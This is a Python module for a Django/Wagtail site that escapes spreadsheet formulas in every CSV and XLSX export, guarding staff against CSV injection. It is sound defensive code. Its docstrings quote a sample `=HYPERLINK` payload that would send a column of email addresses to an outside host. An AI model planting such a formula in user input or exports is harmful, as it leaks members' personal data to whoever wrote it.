"""The one CSV writer every export of the site uses (and the cell escaping its XLSX
report shares), so that no cell a member or applicant typed runs as a formula.

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` (and some a tab or a
carriage return before them) as a formula: a display name such as
`=HYPERLINK("https://example.org/?"&A1,"Click")` would send a column of email addresses
to whoever wrote it, the moment staff open the export. An apostrophe first makes the
cell plain text (OWASP, "CSV Injection"). Numbers and dates stay as they are.
"""

import csv

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value):
    """`value` as a spreadsheet shows it and never runs it: text that would start a
    formula gets an apostrophe in front."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeCSVWriter:
    """`csv.writer` whose every row goes through `safe_cell`."""

    def __init__(self, out, **options):
        self._writer = csv.writer(out, **options)

    def writerow(self, row):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **options) -> SafeCSVWriter:
    """The writer for every CSV the site produces (a response or a StringIO)."""
    return SafeCSVWriter(out, **options)


class FormulaSafeExportMixin:
    """For Wagtail's admin list views with `list_export` (`SpreadsheetExportMixin`):
    every CSV and XLSX cell goes through `safe_cell`, so a name typed as `=HYPERLINK(…)`
    is exported as text. Put it before the Wagtail view in the bases."""

    def preprocess_field_value(self, field, value, export_format):
        return safe_cell(super().preprocess_field_value(field, value, export_format))
